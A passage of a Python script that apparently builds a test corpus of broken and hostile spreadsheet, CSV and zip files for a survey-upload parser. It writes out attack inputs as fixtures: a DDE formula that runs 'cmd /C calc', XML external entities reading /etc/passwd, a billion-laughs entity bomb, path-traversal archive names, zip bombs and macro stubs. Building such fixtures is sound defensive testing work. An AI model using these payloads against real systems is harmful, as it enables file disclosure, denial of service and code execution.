        "valid-codes-among-html": f"Kod\r\n{HTML}{CODE}\r\n",
    }
    remark = table([*person(), "PÅ"], header=[*HEADER, "Övrigt"])
    words = table([*person(*["2 – påbörjat"] * 42), "PÅ"], header=[*HEADER, "Övrigt"])
    return {f"{name}.csv": one.encode() for name, one in made.items()} | {
        "nuls-alone.csv": bytes(3000),
        "nuls-between-all.csv": sound.encode("utf-16-le"),
        "encoding-utf-32.csv": codecs.BOM_UTF32_BE + sound.encode("utf-32-be"),
        "encoding-ebcdic.csv": sound.encode("cp500"),
        "every-byte.csv": bytes(range(1, 256)) * 4,
        "valid-nul-in-a-remark.csv": remark.encode().replace("PÅ".encode(), b"P\0"),
        "valid-encoding-utf-16.csv": codecs.BOM_UTF16_LE + sound.encode("utf-16-le"),
        "valid-encoding-of-windows.csv": words.encode("cp1252"),
        "valid-encodings-mixed.csv": words.encode().replace("PÅ".encode(), b"P\xc5"),
        "valid-half-a-character.csv": words.encode().replace("PÅ".encode(), b"\xed\xa0\x80"),
        "valid-byte-order-mark-and-spoilt-letter.csv": codecs.BOM_UTF8 + b"1.1;x\r\n4;\xc5\r\n",
        "valid-overlong.csv": words.encode().replace("PÅ".encode(), b"\xc0\xaf"),
    }


def no_tables():
    return {
        "picture.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(64),
        "document.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>\n",
        "program.xlsx": b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(100),
        "gzip.csv": gzipped(random.Random(4).randbytes(600)),
        "random.xlsx": random.Random(3).randbytes(3000),
        "old-excel.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
        "locked-by-a-password.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(500)
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(500),
    }


SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BOOK = "xl/workbook.xml"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
RELATED = "xl/_rels/workbook.xml.rels"


def zipped(parts, method=zipfile.ZIP_STORED, level=9):
    """Return an archive whose members are as old as an archive can say."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, part in parts if isinstance(parts, list) else parts.items():
            member = zipfile.ZipInfo(name)
            member.create_system = 3
            member.external_attr = 0o600 << 16
            archive.writestr(member, part, method, level)
    return file.getvalue()


def relation_of(one, target):
    kind = f"{OFFICE}/{one.rstrip('0123456789')}"
    return f'<Relationship Id="{one}" Type="{kind}" Target={quoteattr(target)}/>'


def relations(**targets):
    found = "".join(relation_of(kind, target) for kind, target in targets.items())
    return f'<Relationships xmlns="{OFFICE}">{found}</Relationships>'


def inline(value):
    return f'<c t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def row(*cells):
    return f"<row>{''.join(cells)}</row>"


def number(value):
    return f"<c><v>{value}</v></c>"


# As small as a workbook of a survey can be.
TOP = row(*map(inline, HEADER[:9]))
SOUND = row(inline("Anna"), inline("student"), inline("1"), *[number(4)] * 6)


def with_cell(cell):
    """Return a sound row, but for the first answer."""
    return row(inline("Anna"), inline("student"), inline("1"), cell, *[number(4)] * 5)


def book(data, strings="<si><t>4</t></si>", **changed):
    """Return the parts of a workbook with a header and these rows; what is None is missing."""
    made = {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": relations(officeDocument=BOOK),
        BOOK: f'<workbook xmlns="{SPREADSHEET}" xmlns:r="{OFFICE}"><sheets><sheet name="1" '
        'r:id="worksheet1"/></sheets></workbook>',
        RELATED: relations(worksheet1="worksheets/sheet1.xml", sharedStrings="sharedStrings.xml"),
        STRINGS: f'<sst xmlns="{SPREADSHEET}">{strings}</sst>',
        SHEET: f'<worksheet xmlns="{SPREADSHEET}"><sheetData>{TOP}{data}</sheetData></worksheet>',
        **changed,
    }
    return {name: part for name, part in made.items() if part is not None}


def workbooks():
    """Return workbooks whose XML is broken, or means harm."""
    return {
        f"{name}.xlsx": zipped(parts)
        for name, parts in {**cells(), **worksheets(), **documents_of_xml(), **parts()}.items()
    }


def cells():
    odd = {
        "formula": "<c><f>1+3</f><v>4</v></c>",
        "formula-dde": "<c><f>cmd|' /C calc'!A0</f><v>4</v></c>",
        "formula-of-an-array": '<c><f t="array" ref="A1:XFD1048576">1+3</f><v>4</v></c>',
        "formula-as-text": inline(DDE),
        "html": inline(HTML),
        "script-in-cdata": f"<c t='str'><v><![CDATA[{SCRIPT}]]></v></c>",
        "truth": '<c t="b"><v>1</v></c>',
        "error": '<c t="e"><v>#REF!</v></c>',
        "nan": number("NaN"),
        "infinity": number("1e400"),
        "negative": number(-4),
        "half": number(3.5),
        "lines": inline("4\n5"),
        "escaped-controls": inline("_x0000__x202E_4_x001B_[31m_x000D_"),
        "escaped-half-a-character": inline("_xD83D_4"),
        "of-an-unknown-kind": '<c t="evil"><v>x</v></c>',
        "in-a-cell": "<c><c><v>5</v></c><v>44</v></c>",
        "very-long": inline("4" * 10_000),
    }
    broken = {
        "text-where-a-number-is": number("four"),
        "number-with-a-script": number("4&lt;script&gt;"),
        "shared-text-that-is-not-there": '<c t="s"><v>7</v></c>',
        "shared-text-far-off": f'<c t="s"><v>{"9" * 4000}</v></c>',
        "shared-text-of-html": f'<c t="s"><v>{escape(HTML)}</v></c>',
        "far-off": '<c r="XFD1048576"><v>4</v></c>',
        "in-column-501": '<c r="SG2"><v>4</v></c>',
        "in-row-10001": '<c r="D10001"><v>4</v></c>',
        "of-no-name": '<c r=""><v>4</v></c>',
        "of-a-name-in-lower-case": '<c r="d2"><v>4</v></c>',
        "of-a-name-like-a-path": '<c r="../../evil"><v>4</v></c>',
        "in-row-0": '<c r="D0"><v>4</v></c>',
        "in-a-row-without-end": f'<c r="D{"9" * 4000}"><v>4</v></c>',
    }
    harmless = {
        "cdata": "<c><v><![CDATA[4]]></v></c>",
        "comment-within": "<c><v><!-- 5 -->4</v></c>",
        "instruction-within": "<c><v><?php system('calc')?>4</v></c>",
        "shared-text": '<c t="s"><v>0</v></c>',
        "right-to-left": inline(f"{RIGHT_TO_LEFT}4"),
        "style-that-is-not-there": '<c s="99999"><v>4</v></c>',
        "unknown-elements": "<c><evil><worse/></evil><v>4</v></c>",
        "attributes-200": "<c " + " ".join(f'a{n}="{n}"' for n in range(200)) + "><v>4</v></c>",
    }
    return {
        **{f"mixed-cell-{name}": book(with_cell(one)) for name, one in odd.items()},
        **{f"cell-{name}": book(with_cell(one)) for name, one in broken.items()},
        **{f"valid-cell-{name}": book(with_cell(one)) for name, one in harmless.items()},
    }


def worksheets():
    long_row = f'<row r="{"9" * 5000}"/>'
    plain = book(SOUND)
    dimension = plain[SHEET].replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    return {
        "row-0": book('<row r="0"><c><v>4</v></c></row>'),
        "row-negative": book('<row r="-3"><c><v>4</v></c></row>'),
        "row-half": book('<row r="1.5"/>'),
        "row-of-html": book(f"<row r={quoteattr(HTML)}/>"),
        "row-without-end": book(long_row),
        "row-far-off": book('<row r="1048576"><c><v>4</v></c></row>'),
        "row-unclosed": book("<row>"),
        "cell-outside-of-every-row": book(SOUND, **{SHEET: f"<a>{number(4)}</a>"}),
        "empty-worksheet": book("", **{SHEET: "<worksheet/>"}),
        "nested-3000-deep": book("<a>" * 3000 + "</a>" * 2999),
        "valid-a-million-rows-declared": book(SOUND, **{SHEET: dimension}),
        "valid-a-thousand-empty-rows": book(SOUND + "<row/>" * 1000),
        "valid-last-row-of-all-is-empty": book(SOUND + '<row r="1048576"/>'),
        "valid-cells-merged-from-end-to-end": book(
            SOUND,
            **{
                SHEET: plain[SHEET].replace(
                    "</sheetData>",
                    '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
                )
            },
        ),
        "valid-nested-3000-deep": book(SOUND + "<a>" * 3000 + "</a>" * 3000),
        "valid-name-of-4000-letters": book(SOUND + f"<{'a' * 4000}/>" * 2),
        "valid-namespace-of-9000-letters": book(
            SOUND + f'<x xmlns:a="{"u" * 9000}">{"<a:b/>" * 300}</x>'
        ),
        "valid-row-hidden": book(SOUND.replace("<row>", '<row hidden="1">')),
    }


def documents_of_xml():
    """Return workbooks that do what XML can do and a spreadsheet never does."""
    plain = book(SOUND)
    sheet = plain[SHEET]
    entity = book(with_cell('<c t="str"><v>&four;</v></c>'))[SHEET]
    laughs = "".join(f'<!ENTITY l{depth} "{f"&l{depth - 1};" * 10}">' for depth in range(1, 10))
    declared = {
        "entity": '<!DOCTYPE x [<!ENTITY four "4">]>',
        "entity-bomb": f'<!DOCTYPE x [<!ENTITY l0 "4">{laughs}<!ENTITY four "&l9;">]>',
        "entity-blown-up": f'<!DOCTYPE x [<!ENTITY four "{"4" * 9000}">]>',
        "entity-of-itself": '<!DOCTYPE x [<!ENTITY four "&four;">]>',
        "entity-of-a-file": '<!DOCTYPE x [<!ENTITY four SYSTEM "file:///etc/passwd">]>',
        "entity-of-a-windows-file": '<!DOCTYPE x [<!ENTITY four SYSTEM "file:///c:/windows/win.ini">]>',
        "entity-of-a-page": '<!DOCTYPE x [<!ENTITY four SYSTEM "http://127.0.0.1:9/evil">]>',
        "entity-of-a-parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/e">%p;]>',
    }
    made = {
        **{name: book(SOUND, **{SHEET: one + entity}) for name, one in declared.items()},
        "entity-undeclared": book(SOUND, **{SHEET: entity}),
        "entity-in-shared-texts": book(
            SOUND, **{STRINGS: f"{declared['entity-bomb']}<sst><si><t>&four;</t></si></sst>"}
        ),
        "entity-in-relations": book(
            SOUND, **{RELATED: declared["entity-of-a-file"] + plain[RELATED]}
        ),
        "doctype-outside": book(SOUND, **{SHEET: f'<!DOCTYPE x SYSTEM "/etc/passwd">{sheet}'}),
        "doctype-of-html": book(SOUND, **{SHEET: f"<!DOCTYPE html>{sheet}"}),
        "half-a-character": book(with_cell(number("&#xD800;"))),
        "nul-by-number": book(with_cell(number("&#0;4"))),
        "control-character": book(with_cell(number("\1" + "4"))),
        "attribute-twice": book(with_cell('<c t="n" t="s"><v>0</v></c>')),
        "two-roots": book(SOUND, **{SHEET: sheet * 2}),
        "unclosed": book(SOUND, **{SHEET: sheet[:-5]}),
        "encoding-that-nobody-knows": book(
            SOUND, **{SHEET: f'<?xml version="1.0" encoding="evil-8"?>{sheet}'}
        ),
        "encoding-that-lies": book(
            SOUND, **{SHEET: f'<?xml version="1.0" encoding="UTF-16"?>{sheet}'.encode()}
        ),
        "encoding-broken": book(SOUND, **{SHEET: sheet.encode().replace(b"Namn", b"N\xffmn")}),
        "html-instead": book(SOUND, **{SHEET: f"<html>{HTML}</html>"}),
        "valid-include": book(
            SOUND + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'
        ),
        "valid-stylesheet": book(
            SOUND, **{SHEET: f'<?xml-stylesheet href="http://127.0.0.1:9/e"?>{sheet}'}
        ),
        "valid-schema-elsewhere": book(
            SOUND,
            **{SHEET: sheet.replace("<worksheet", '<worksheet xsi="http://127.0.0.1:9/e.xsd"')},
        ),
        "valid-encoding-utf-16": book(
            SOUND, **{SHEET: codecs.BOM_UTF16_LE + sheet.encode("utf-16-le")}
        ),
        "valid-byte-order-mark": book(SOUND, **{SHEET: codecs.BOM_UTF8 + sheet.encode()}),
    }
    return {f"xml-{name}" if "valid" not in name else name: one for name, one in made.items()}


def parts():
    """Return workbooks whose parts are missing, or point to where they should not."""
    plain = book(SOUND)
    names = {"relations": "_rels/.rels", "workbook": BOOK, "pointers": RELATED}
    names |= {"texts": STRINGS, "worksheet": SHEET}
    made = {}
    for said_of, name in names.items():
        made[f"part-{said_of}-missing"] = book(SOUND, **{name: None})
        made[f"part-{said_of}-empty"] = book(SOUND, **{name: ""})
        made[f"part-{said_of}-is-a-picture"] = book(SOUND, **{name: b"\x89PNG\r\n\x1a\n\0"})
    targets = {
        "up": "../../../../../../etc/passwd",
        "absolute": "/etc/passwd",
        "of-windows": "C:\\windows\\win.ini",
        "of-a-page": "http://127.0.0.1:9/evil.xml",
        "of-a-file": "file:///etc/passwd",
        "itself": "workbook.xml",
        "its-pointers": "_rels/workbook.xml.rels",
        "empty": "",
        "with-nul": "worksheets/sheet1.xml%00.png",
        "very-long": "a/" * 4000,
    }
    for said_of, target in targets.items():
        pointing = plain[RELATED].replace("worksheets/sheet1.xml", escape(target))
        made[f"target-{said_of}"] = book(SOUND, **{RELATED: pointing})
    external = plain[RELATED].replace('Target="work', 'TargetMode="External" Target="work')
    twice = plain[RELATED].replace("</R", '<Relationship Id="worksheet1" Type="x" Target="y"/></R')
    listed = '<sheet r:id="worksheet1"/>' * 200
    often = plain[BOOK].replace("<sheets>", f"<sheets>{listed}")
    return made | {
        "target-in-the-world": book(SOUND, **{RELATED: external}),
        "target-that-nobody-has": book(SOUND, **{BOOK: plain[BOOK].replace("sheet1", "sheet7")}),
        "target-twice": book(SOUND, **{RELATED: twice}),
        "no-worksheets": book(SOUND, **{BOOK: "<workbook><sheets/></workbook>"}),
        "chart-alone": book(
            SOUND, **{RELATED: plain[RELATED].replace("/worksheet", "/chartsheet", 1)}
        ),
        "text-document": book(SOUND, **{BOOK: "<document><body/></document>"}),
        "style-number-of-html": book(
            SOUND,
            **{
                "xl/styles.xml": f"<a><cellXfs><xf numFmtId={quoteattr(HTML)}/></cellXfs></a>",
                RELATED: plain[RELATED].replace("</R", relation_of("styles", "styles.xml") + "</R"),
            },
        ),
        "style-format-missing": book(
            SOUND,
            **{
                "xl/styles.xml": '<a><numFmt numFmtId="164"/></a>',
                RELATED: plain[RELATED].replace("</R", relation_of("styles", "styles.xml") + "</R"),
            },
        ),
        "valid-style-format-that-goes-on": book(
            SOUND,
            **{
                "xl/styles.xml": f'<a><numFmt numFmtId="164" formatCode="{"[" * 9000}"/></a>',
                RELATED: plain[RELATED].replace("</R", relation_of("styles", "styles.xml") + "</R"),
            },
        ),
        "valid-worksheet-listed-200-times": book(SOUND, **{BOOK: often}),
        "valid-content-types-of-something-else": book(
            SOUND, **{"[Content_Types].xml": "<Types><Default ContentType='text/html'/></Types>"}
        ),
        "valid-content-types-nonsense": book(SOUND, **{"[Content_Types].xml": b"\0\xff"}),
        "valid-macros": book(
            SOUND, **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Sub Auto_Open()\r\nShell(1)"}
        ),
        "valid-data-from-elsewhere": book(
            SOUND,
            **{
                "xl/connections.xml": '<connections><connection url="http://127.0.0.1:9/"/></connections>',
                "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>",
                "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(100),
            },
        ),
    }


def patched(content, offset, value, name=b""):
    """Change a field in the directory's entry of a member."""
    at = content.rindex(b"PK\1\2", 0, content.rindex(name))
    return content[: at + offset] + value + content[at + offset + len(value) :]


def put_into_names(content, old, new):
    """Change the name of a member to one of the same length, in both of its places."""
    return content.replace(old.encode(), new.encode())


# What is deflated: other versions of zlib may write other bytes of the same meaning.
DEFLATED = ("bomb-", "lies-")


def archives():
    """Return archives that are torn, lie about what they hold, or swell."""
    plain = zipped(book(SOUND))
    export = table(person()).encode()
    end = plain.rindex(b"PK\5\6")
    torn_at = {
        f"torn-at-{share:02}-percent.xlsx": plain[: len(plain) * share // 100]
        for share in (1, 10, 30, 50, 70, 90, 99)
    }
    swollen = zipped(book(SOUND + " " * 900_000), zipfile.ZIP_DEFLATED)
    made = {
        **torn_at,
        "end-alone.xlsx": plain[end:],
        "directory-lost.xlsx": plain[: plain.index(b"PK\1\2")] + plain[end:],
        "directory-far-off.xlsx": plain[: end + 16] + b"\xff\xff\xff\x7f" + plain[end + 20 :],
        "valid-directory-counts-60000.xlsx": plain[: end + 10] + b"\x60\xea" + plain[end + 12 :],
        "head-overwritten.xlsx": b"PK\3\4" + b"evil" * 200 + plain[804:],
        "byte-flipped-within.xlsx": plain.replace(b"breadth-1", b"breadth-7"),
        "archive-of-nothing.xlsx": zipped({}),
        "archive-twice.xlsx": plain[:-40] + plain[:-40],
        "locked-member.xlsx": patched(plain, 8, b"\1\0", BOOK.encode()),
        "way-to-pack-bzip2.xlsx": zipped(book(SOUND), zipfile.ZIP_BZIP2),
        "way-to-pack-unknown.xlsx": patched(plain, 10, b"\x63\0", BOOK.encode()),
        "way-to-pack-deflate-and-is-not.xlsx": patched(plain, 10, b"\x08\0", SHEET.encode()),
        "lies-about-size.xlsx": patched(swollen, 24, struct.pack("<I", 1000), SHEET.encode()),
        "lies-about-4-gigabytes.xlsx": patched(swollen, 24, b"\xff\xff\xff\xfe", SHEET.encode()),
        "lies-about-place.xlsx": patched(plain, 42, struct.pack("<I", 9), SHEET.encode()),
        "lies-about-checksum.xlsx": patched(plain, 16, b"evil", SHEET.encode()),
        "lies-about-checksum-of-texts.xlsx": patched(plain, 16, b"evil", STRINGS.encode()),
        "bomb-of-zeros.xlsx": zipped(
            {**book(SOUND), "xl/x": bytes(20_000_000)}, zipfile.ZIP_DEFLATED
        ),
        "bomb-of-blanks.xlsx": zipped(book(SOUND + " " * 20_000_000), zipfile.ZIP_DEFLATED),
        "bomb-in-csv.zip": zipped({"a.csv": b";" * 20_000_001}, zipfile.ZIP_DEFLATED),
        "bomb-of-bombs.zip": zipped(
            {f"{n}.zip": bytes(900_000) for n in range(9)}, zipfile.ZIP_DEFLATED
        ),
        "parts-1006.xlsx": zipped({**book(SOUND), **{f"{n}": b"" for n in range(1000)}}),
        "zip-in-a-zip.zip": zipped({"export.zip": zipped({"export.csv": export})}),
        "workbook-in-a-zip.zip": zipped({"export.xlsx": plain}),
        "two-exports.zip": zipped({"a.csv": export, "b.csv": export}),
        "no-export.zip": zipped({"readme.txt": b"4"}),
        "picture-as-export.zip": zipped(
            {"export.csv": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(64)}
        ),
        "open-document.ods": zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": b"<office:document-content/>",
            }
        ),
        "member-twice.xlsx": put_into_names(
            zipped([*book(SOUND).items(), ("xl/worksheets/sheet9.xml", "<evil")]),
            "xl/worksheets/sheet9.xml",
            SHEET,
        ),
        "valid-zipped.zip": zipped({"export.csv": export}),
        "valid-macros.xlsm": zipped(book(SOUND, **{"xl/vbaProject.bin": b"Sub Auto_Open()"})),
        "valid-comment-at-the-end.xlsx": plain[:-2] + b"\4\0evil",
        "valid-something-before.xlsx": b"PK\3\4evil" + plain,
        "valid-swollen-but-small.xlsx": swollen,
    }
    names = {
        "up": "../../../evil.csv",
        "absolute": "/tmp/evilxx.csv",
        "of-windows": "C:\\evil\\ab.csv",
        "backslashes": "..\\..\\ev\\a.csv",
        "nul": "ev\0l\0\0\0\0\0\0\0\0.csv",
        "line-break": "evil\n\n\n\n\n\n\n.csv",
        "html": "<img src=x>abc.csv",
        "device": "CON...........csv",
        "of-python": "__init__.py\0abcd",
    }
    for said_of, name in names.items():
        held = "x" * (len(name) - 4) + ".csv"
        content = put_into_names(zipped({held: export}), held, name)
        kind = "" if "\0" in name else "valid-"
        made[f"{kind}member-{said_of}.zip"] = content
        beside = zipped({**book(SOUND), held: b"evil"})
        made[f"valid-member-{said_of}.xlsx"] = put_into_names(beside, held, name)
    made["valid-member-of-5000-letters.zip"] = zipped({f"{'a' * 5000}.csv": export})
    made["valid-member-right-to-left.zip"] = zipped({f"{RIGHT_TO_LEFT}vsc.exe.csv": export})
    return made


def files():
    """Return the content of every file by its name within this folder."""
    kinds = {"sheets": sheets(), "codes": codes(), "surveys": surveys()}
    return {f"{kind}/{name}": one for kind, found in kinds.items() for name, one in found.items()}


def main():
    """Write every file, and remove what is no longer made."""
    made = files()
    for kind in ("sheets", "codes", "surveys"):
        (HERE / kind).mkdir(exist_ok=True)
        for one in (HERE / kind).iterdir():
            if f"{kind}/{one.name}" not in made:
                one.unlink()
    for name, content in made.items():
        (HERE / name).write_bytes(content)
    print(len(made), "files,", sum(map(len, made.values())), "bytes")


if __name__ == "__main__":
    main()
